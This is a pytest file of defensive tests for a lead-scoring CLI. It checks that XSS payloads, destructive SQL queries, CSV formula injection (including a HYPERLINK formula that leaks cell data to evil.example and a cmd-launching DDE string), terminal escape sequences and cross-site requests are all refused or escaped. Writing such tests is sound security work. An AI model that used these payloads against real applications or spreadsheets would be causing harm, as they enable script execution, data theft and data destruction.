"""Hostile input and faults: what an export, a database or a file system can do to the product."""

from __future__ import annotations

import shutil
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from alignment.cli import cli
from tests.browser import CHROMIUM_ARGS, chromium_path, kernel_count

SCRIPT = "<script>alert('script')</script>Giveaway Blitz"
IMAGE = "<img src=x onerror=\"alert('img')\">Partner"


def _cli(*args: str):
    return CliRunner().invoke(cli, list(args))


@pytest.fixture(scope="module")
def hostile_workspace(
    demo_dir: Path, fitted_model_dir: Path, tmp_path_factory: pytest.TempPathFactory
) -> Path:
    """The demo workspace whose campaign, source, team and rejection reason values carry script payloads."""
    root = tmp_path_factory.mktemp("hostile") / "workspace"
    shutil.copytree(demo_dir, root)
    shutil.rmtree(root / "model", ignore_errors=True)
    shutil.copytree(fitted_model_dir, root / "model")
    leads = pd.read_csv(root / "leads.csv", dtype=str, keep_default_na=False)
    top_campaign = leads["campaign"].value_counts().index[0]
    leads.loc[leads["campaign"] == top_campaign, "campaign"] = SCRIPT
    leads.loc[leads["source"] == leads["source"].value_counts().index[0], "source"] = IMAGE
    leads["team"] = ["<b onmouseover=alert('team')>North</b>", IMAGE] * (len(leads) // 2) + [IMAGE] * (
        len(leads) % 2
    )
    leads.loc[leads["rejection_reason"] != "", "rejection_reason"] = "<svg onload=alert('reason')>budget"
    leads.to_csv(root / "leads.csv", index=False)
    return root / "alignment.toml"


@pytest.mark.browser
@pytest.mark.slow
def test_script_in_export_values_never_runs_in_the_review(hostile_workspace: Path) -> None:
    executable = chromium_path()
    from playwright.sync_api import sync_playwright

    result = _cli("report", "--config", str(hostile_workspace), "--month", "2026-09")
    assert result.exit_code == 0, result.output
    reports = hostile_workspace.parent / "reports"
    page_text = (reports / "2026-09" / "review.html").read_text(encoding="utf-8")
    assert "Giveaway Blitz" in page_text  # the campaign is shown, as text
    dialogs: list[str] = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=executable, args=CHROMIUM_ARGS, headless=True)
        page = browser.new_page(viewport={"width": 1920, "height": 1080})
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        for name in ("2026-09/review.html", "index.html"):
            page.goto((reports / name).as_uri())
            page.wait_for_load_state("load")
            page.mouse.move(400, 400)
            page.wait_for_timeout(500)
        shown = page.content()
        browser.close()
    assert dialogs == []
    assert "<script>alert" not in shown


# --- database sources are opened read-only ----------------------------------------------------------------


WRITES = [
    "DROP TABLE other",
    "SELECT * FROM leads; DROP TABLE other",
    "DELETE FROM other",
    "SELECT * INTO copied FROM leads",
    "WITH gone AS (DELETE FROM other RETURNING *) SELECT * FROM gone",
]


def _sqlite_crm(folder: Path) -> Path:
    import sqlite3

    database = folder / "crm.db"
    with sqlite3.connect(database) as connection:
        connection.execute("CREATE TABLE leads (lead_id TEXT, outcome TEXT, industry TEXT)")
        connection.executemany(
            "INSERT INTO leads VALUES (?, ?, ?)",
            [(f"l{i}", "won" if i % 3 == 0 else "lost", "retail") for i in range(60)],
        )
        connection.execute("CREATE TABLE other (x INTEGER)")
    return database


def _tables(database: Path) -> set[str]:
    import sqlite3

    with sqlite3.connect(database) as connection:
        return {row[0] for row in connection.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}


@pytest.mark.parametrize("query", WRITES)
def test_a_leads_query_that_writes_is_refused_in_one_line_and_writes_nothing(
    tmp_path: Path, query: str
) -> None:
    database = _sqlite_crm(tmp_path)
    config = tmp_path / "alignment.toml"
    config.write_text(f'[source]\nleads = "sqlite:///{database}"\nleads_query = """{query}"""\n')
    result = _cli("validate", "--config", str(config))
    assert result.exit_code == 1
    errors = [line for line in result.output.splitlines() if line.startswith("error:")]
    assert len(errors) == 1 and "a source query may only read" in errors[0]
    assert "Traceback" not in result.output
    assert _tables(database) == {"leads", "other"}


def test_the_sqlite_connection_itself_cannot_write(tmp_path: Path) -> None:
    from sqlalchemy import text
    from sqlalchemy.exc import OperationalError

    from alignment.loader import read_only_engine

    database = _sqlite_crm(tmp_path)
    engine = read_only_engine(f"sqlite:///{database}", "crm.db")
    with pytest.raises(OperationalError, match="readonly"), engine.connect() as connection:
        connection.execute(text("CREATE TABLE planted (x INTEGER)"))
    assert _tables(database) == {"leads", "other"}


def test_a_plain_select_still_reads(tmp_path: Path) -> None:
    from alignment.loader import read_table

    database = _sqlite_crm(tmp_path)
    frame = read_table(f"sqlite:///{database}", query="WITH w AS (SELECT * FROM leads) SELECT * FROM w")
    assert len(frame) == 60


@pytest.mark.postgres
def test_the_postgresql_connection_is_read_only() -> None:
    import os

    url = os.environ.get("ALIGNMENT_TEST_POSTGRES_URL")
    if not url:
        pytest.skip("ALIGNMENT_TEST_POSTGRES_URL is not set: no PostgreSQL server (.ci/run starts one)")
    from sqlalchemy import create_engine, inspect, text
    from sqlalchemy.exc import SQLAlchemyError

    from alignment.exceptions import DataError
    from alignment.loader import read_only_engine, read_table

    table = f"hostile_{os.getpid()}"
    admin = create_engine(url)
    try:
        with admin.begin() as connection:
            connection.execute(text(f"CREATE TABLE {table} (lead_id TEXT, outcome TEXT)"))
            connection.execute(text(f"INSERT INTO {table} VALUES ('a', 'won'), ('b', 'lost')"))
        assert len(read_table(url, query=f"SELECT * FROM {table}")) == 2
        with pytest.raises(DataError, match="may only read"):
            read_table(url, query=f"DROP TABLE {table}")
        engine = read_only_engine(url, "postgres")
        with pytest.raises(SQLAlchemyError, match="read-only transaction"), engine.connect() as connection:
            connection.execute(text(f"DELETE FROM {table}"))
        engine.dispose()
        assert table in inspect(admin).get_table_names()
    finally:
        with admin.begin() as connection:
            connection.execute(text(f"DROP TABLE IF EXISTS {table}"))
        admin.dispose()


# --- nothing a user owns is overwritten; renders do not trip over each other ------------------------------


@pytest.fixture(scope="module")
def rendered(demo_dir: Path, fitted_model_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A private demo workspace with 2026-09 rendered."""
    root = tmp_path_factory.mktemp("rendered") / "workspace"
    shutil.copytree(demo_dir, root)
    shutil.rmtree(root / "model", ignore_errors=True)
    shutil.copytree(fitted_model_dir, root / "model")
    result = _cli("report", "--config", str(root / "alignment.toml"), "--month", "2026-09")
    assert result.exit_code == 0, result.output
    return root / "alignment.toml"


@pytest.mark.parametrize("target", ["own", "..", "/etc"])
def test_a_reports_folder_holding_someone_elses_files_is_refused(
    rendered: Path, tmp_path: Path, target: str
) -> None:
    if target == "own":
        (tmp_path / "own").mkdir()
        (tmp_path / "own" / "index.html").write_text("<h1>my own page</h1>")
        target = str(tmp_path / "own")
    import re

    config = rendered.parent / f"other-{abs(hash(target))}.toml"
    config.write_text(re.sub(r'(?m)^reports = ".*"$', f'reports = "{target}"', rendered.read_text()))
    before = {p.name for p in Path(target).iterdir()} if target.endswith("own") else None
    result = _cli("report", "--config", str(config), "--month", "2026-09")
    assert result.exit_code == 1
    assert "the reports folder holds files alignment did not write" in result.output
    if target.endswith("own"):
        assert (tmp_path / "own" / "index.html").read_text() == "<h1>my own page</h1>"
        assert {p.name for p in (tmp_path / "own").iterdir()} == before
    assert not Path("/etc/.alignment-reports").exists()


def test_a_month_left_aside_by_a_killed_swap_is_recovered_by_the_next_run(rendered: Path) -> None:
    from alignment.review.report import build_index

    reports = rendered.parent / "reports"
    (reports / "2026-09").rename(reports / ".2026-09.previous")  # killed between the two renames
    index = build_index(reports)
    assert (reports / "2026-09" / "metrics.json").is_file()
    assert "2026-09/review.html" in index.read_text()


@pytest.mark.slow
def test_a_second_render_waits_for_the_first_and_says_so(rendered: Path) -> None:
    import fcntl
    import select
    import subprocess
    import sys
    import time

    reports = rendered.parent / "reports"
    command = [
        str(Path(sys.executable).with_name("alignment")),
        "report",
        "--config",
        str(rendered),
        "--month",
        "2026-09",
    ]
    with (reports / ".render.lock").open("a+") as held:
        fcntl.flock(held, fcntl.LOCK_EX)
        held.write("2026-09 is being rendered by process 4242\n")
        held.flush()
        second = subprocess.Popen(command, stderr=subprocess.PIPE, text=True)
        # Until it says it waits (its imports alone can take seconds on a busy machine), not a fixed sleep.
        said, deadline = [], time.monotonic() + 120
        while time.monotonic() < deadline and not any("waiting for it to finish" in line for line in said):
            if select.select([second.stderr], [], [], 1)[0]:
                line = second.stderr.readline()
                if not line:
                    break
                said.append(line)
        time.sleep(1)
        assert second.poll() is None  # waiting, not deleting the first run's files
        held.truncate(0)
        fcntl.flock(held, fcntl.LOCK_UN)
    _, rest = second.communicate(timeout=300)
    stderr = "".join(said) + rest
    assert second.returncode == 0, stderr
    assert "2026-09 is being rendered by process 4242: waiting for it to finish" in stderr


# --- CSV formula injection ------------------------------------------------------------------------------


FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"open")'


def test_cells_a_spreadsheet_would_run_are_written_as_text(tmp_path: Path) -> None:
    import numpy as np

    from alignment.model import fit_model

    rng = np.random.default_rng(2)
    n = 2_000
    segment = rng.choice([FORMULA, "+cmd|' /C calc'!A0", "@SUM(1+1)", "retail", "-2+3"], n)
    y = rng.random(n) < np.where(segment == "retail", 0.4, 0.15)
    pd.DataFrame(
        {
            "lead_id": [f"=id{i}" if i < 5 else f"l{i}" for i in range(n)],
            "segment": segment,
            "employees": rng.gamma(2.0, 40, n),
            "delta": rng.normal(-20, 5, n),
            "outcome": np.where(y, "won", "lost"),
        }
    ).to_csv(tmp_path / "leads.csv", index=False)
    (tmp_path / "alignment.toml").write_text('[source]\nleads = "leads.csv"\n')
    fit_model(tmp_path / "alignment.toml", progress=False)
    points = (tmp_path / "model" / "points.csv").read_text()
    for payload in (FORMULA, "+cmd|' /C calc'!A0", "@SUM(1+1)"):
        quoted = f"'{payload}"
        assert quoted.replace('"', '""') in points or quoted in points
    assert ",-2+3," not in points and "'-2+3" in points
    numeric = pd.read_csv(tmp_path / "model" / "points.csv")
    assert not numeric.loc[numeric["attribute"] == "delta", "band"].str.startswith("'").any()

    scored_out = tmp_path / "scores.csv"
    result = _cli(
        "score",
        "--model",
        str(tmp_path / "model"),
        "--input",
        str(tmp_path / "leads.csv"),
        "--out",
        str(scored_out),
    )
    assert result.exit_code == 0, result.output
    scores = pd.read_csv(scored_out, dtype=str)
    assert scores["lead_id"].iloc[0] == "'=id0" and scores["lead_id"].iloc[10] == "l10"
    cells = scores[["reason_1", "reason_2", "reason_3"]].fillna("").to_numpy().ravel()
    assert not any(str(cell).startswith(("=", "+", "-", "@")) for cell in cells)


# --- control characters in signer names -------------------------------------------------------------------


def test_a_signer_name_with_control_characters_is_refused_and_escaped_when_listed() -> None:
    from alignment.agreement import Agreement, make_agreement, summary_line
    from alignment.exceptions import AgreementError

    fields = {
        "model_version": "abc",
        "thresholds": {"mql": 50, "fast_track": 80, "recycle": 20},
        "service_levels": {
            "follow_up_hours": 24,
            "accept_within_days": 5,
            "mql_per_month": 100,
            "min_win_rate": 0.05,
        },
    }
    forged = "Ann\x1b]0;owned\x07\nv9    signed Mallory"
    with pytest.raises(AgreementError, match="control character"):
        make_agreement(**fields, signed_by={"marketing": forged, "sales": "Bob"})
    hand_edited = Agreement.model_validate(
        {
            **fields,
            "version": 3,
            "created_at": "2026-11-02T10:00:00",
            "signed_by": {"marketing": forged, "sales": "Bob"},
        }
    )
    line = summary_line(hand_edited)
    assert "\n" not in line and "\x1b" not in line and "\\x1b]0;owned\\x07\\nv9" in line


# --- absurd input is refused early; messages that list names are capped -----------------------------------


def test_a_table_wider_than_the_limit_is_refused_before_any_work(tmp_path: Path) -> None:
    from alignment.loader import MAX_COLUMNS

    header = ",".join(f"c{i}" for i in range(100_000)) + ",outcome\n"
    (tmp_path / "wide.csv").write_text(header + ",".join("0" for _ in range(100_000)) + ",won\n")
    result = _cli("validate", str(tmp_path / "wide.csv"))
    assert result.exit_code == 1
    assert result.output.strip() == (
        f"error: {tmp_path / 'wide.csv'}: the table has 100,001 columns, more than the {MAX_COLUMNS:,} "
        "alignment reads — export only the lead's attributes and the contract columns"
    )


def test_a_list_of_unmapped_outcome_values_ends_with_how_many_more(tmp_path: Path) -> None:
    pd.DataFrame({"outcome": [f"stage {i}" for i in range(10_000)]}).to_csv(
        tmp_path / "many.csv", index=False
    )
    result = _cli("validate", str(tmp_path / "many.csv"))
    assert result.exit_code == 1 and "… and 9,992 more" in result.output
    assert len(result.output) < 1_000


def test_an_excel_cover_sheet_names_the_sheets(tmp_path: Path) -> None:
    with pd.ExcelWriter(tmp_path / "export.xlsx") as writer:
        pd.DataFrame({"About": ["Exported from the CRM"]}).to_excel(writer, sheet_name="Cover", index=False)
        pd.DataFrame({"industry": ["a", "b"] * 20, "outcome": ["won", "lost"] * 20}).to_excel(
            writer, sheet_name="Leads", index=False
        )
    result = _cli("validate", str(tmp_path / "export.xlsx"))
    assert result.exit_code == 1
    assert "this is sheet 'Cover' of the workbook's 'Cover', 'Leads': set source.sheet" in result.output
    (tmp_path / "alignment.toml").write_text('[source]\nleads = "export.xlsx"\nsheet = "Leads"\n')
    assert _cli("validate", "--config", str(tmp_path / "alignment.toml")).exit_code == 0


def test_a_parquet_outcome_of_floats_is_read_like_integers(tmp_path: Path) -> None:
    import numpy as np

    outcome = np.where(np.arange(60) % 3 == 0, 1.0, 0.0)
    pd.DataFrame({"industry": ["a", "b"] * 30, "outcome": outcome}).to_parquet(tmp_path / "leads.parquet")
    result = _cli("validate", str(tmp_path / "leads.parquet"))
    assert result.exit_code == 0, result.output
    assert "outcome: won 20, lost 40, open 0" in result.output


# --- contact details under unfamiliar names -----------------------------------------------------------------


def test_contact_details_are_found_by_their_values_and_kept_out_of_every_artifact(tmp_path: Path) -> None:
    import numpy as np

    from alignment.model import fit_model

    rng = np.random.default_rng(8)
    n = 1_500
    y = rng.random(n) < 0.25
    frame = pd.DataFrame(
        {
            "industry": rng.choice(["retail", "software", "health"], n),
            "partner_ref": [f"p{i}@partner-mail.example" for i in range(n)],  # e-mail under a neutral name
            "Rückruf": [
                f"+49 30 {rng.integers(1_000_000, 9_999_999)}" for _ in range(n)
            ],  # phone, German name
            "Kontakt E-Mail": [f"k{i}@firma.example" for i in range(n)],
            "contact_person": [f"Person {i}" for i in range(n)],
            "outcome": np.where(y, "won", "lost"),
        }
    )
    frame.to_csv(tmp_path / "leads.csv", index=False)
    (tmp_path / "alignment.toml").write_text('[source]\nleads = "leads.csv"\n')
    result = _cli("validate", "--config", str(tmp_path / "alignment.toml"))
    assert "column 'partner_ref' holds e-mail addresses: treated as contact details" in result.output
    assert "column 'Rückruf' holds phone numbers" in result.output
    fit_model(tmp_path / "alignment.toml", progress=False)
    written = "".join(
        p.read_text(errors="ignore") for p in (tmp_path / "model").iterdir() if p.suffix != ".joblib"
    )
    for secret in ("partner-mail.example", "firma.example", "+49 30", "Person 1"):
        assert secret not in written


# --- folders that cannot be written: one line, before the work ------------------------------------------


def test_a_model_folder_that_cannot_be_written_is_refused_before_the_fit(tmp_path: Path) -> None:
    # /sys refuses new files even to root: a real unwritable folder on any Linux machine.
    (tmp_path / "leads.csv").write_text("not,a,history\n")  # the fit would fail on this, were it started
    (tmp_path / "alignment.toml").write_text('[source]\nleads = "leads.csv"\n')
    result = _cli("fit", "--config", str(tmp_path / "alignment.toml"), "--out", "/sys/alignment-test/model")
    assert result.exit_code == 1
    assert result.output.startswith(
        "error: /sys/alignment-test/model: the model folder cannot be written there"
    )
    assert len(result.output.strip().splitlines()) == 1 and "Traceback" not in result.output


def test_scores_and_reports_that_cannot_be_written_are_one_line(
    rendered: Path, fitted_model_dir: Path
) -> None:
    import re

    leads = rendered.parent / "leads.csv"
    result = _cli(
        "score", "--model", str(fitted_model_dir), "--input", str(leads), "--out", "/sys/scores.csv"
    )
    assert result.exit_code == 1 and "cannot be written there" in result.output
    assert len(result.output.strip().splitlines()) == 1
    config = rendered.parent / "sys-reports.toml"
    config.write_text(
        re.sub(r'(?m)^reports = ".*"$', 'reports = "/sys/alignment-reports"', rendered.read_text())
    )
    result = _cli("report", "--config", str(config), "--month", "2026-09")
    assert result.exit_code == 1 and "reports folder" in result.output
    assert len(result.output.strip().splitlines()) == 1 and "Traceback" not in result.output


# --- the workshop server cannot be flooded ---------------------------------------------------------------


def _get(url: str, headers: dict[str, str]) -> tuple[int, str]:
    import urllib.error
    import urllib.request

    try:
        with urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=180) as response:
            response.read(1)
            return response.status, ""
    except urllib.error.HTTPError as error:
        return error.code, str(error.reason)


@pytest.mark.slow
def test_page_loads_from_other_sites_start_no_kernel_and_open_pages_are_capped_and_culled(
    rendered: Path,
) -> None:
    import time

    from alignment.serve import POOL_SIZE, WorkshopServer

    def settled(expected: int) -> int:
        """The kernel count once the preheated pool has refilled (or after 90 s)."""
        for _ in range(180):
            if kernel_count(server.process) == expected:
                break
            time.sleep(0.5)
        return kernel_count(server.process)

    with WorkshopServer(rendered, startup_timeout=120, idle_seconds=6, max_kernels=2) as server:
        assert settled(POOL_SIZE) == POOL_SIZE  # the preheated kernel, waiting for a page
        # what an <img src="http://127.0.0.1:8866/"> on any web page would send
        for headers in (
            {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Dest": "image"},
            {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Dest": "document"},
            {"Origin": "http://evil.example"},
        ):
            status, reason = _get(server.url, headers)
            assert status == 403 and "only from its own address" in reason
        assert kernel_count(server.process) == POOL_SIZE, "a refused load takes no kernel"
        assert _get(server.url, {"Sec-Fetch-Site": "none", "Sec-Fetch-Dest": "document"})[0] == 200
        assert settled(1 + POOL_SIZE) == 1 + POOL_SIZE
        assert _get(server.url, {})[0] == 200
        assert settled(2 + POOL_SIZE) == 2 + POOL_SIZE
        status, reason = _get(server.url, {})
        assert status == 503 and "already open in 2 pages" in reason
        assert kernel_count(server.process) == 2 + POOL_SIZE
        # pages never connected: their kernels are stopped once idle (the preheated one is kept)
        assert settled(POOL_SIZE) == POOL_SIZE
        assert _get(server.url, {})[0] == 200


def test_the_agreement_sheet_shows_names_and_notes_as_text(tmp_path: Path) -> None:
    from alignment.agreement import make_agreement, save_agreement, write_sheet

    agreement = make_agreement(
        model_version="abc",
        thresholds={"mql": 50, "fast_track": 80, "recycle": 20},
        service_levels={
            "follow_up_hours": 24,
            "accept_within_days": 5,
            "mql_per_month": 100,
            "min_win_rate": 0.05,
        },
        signed_by={
            "marketing": "<script>alert('m')</script>Ann",
            "sales": '<img src=x onerror="alert(1)">Bob',
        },
        notes="<b onmouseover=alert(2)>agreed</b>",
    )
    saved = save_agreement(agreement, tmp_path / "agreements")
    sheet = write_sheet(saved, tmp_path / "sheet.html").read_text()
    assert "<script>alert" not in sheet and "<img src=x" not in sheet and "<b onmouseover" not in sheet
    assert "&lt;script&gt;alert(&#39;m&#39;)&lt;/script&gt;Ann" in sheet
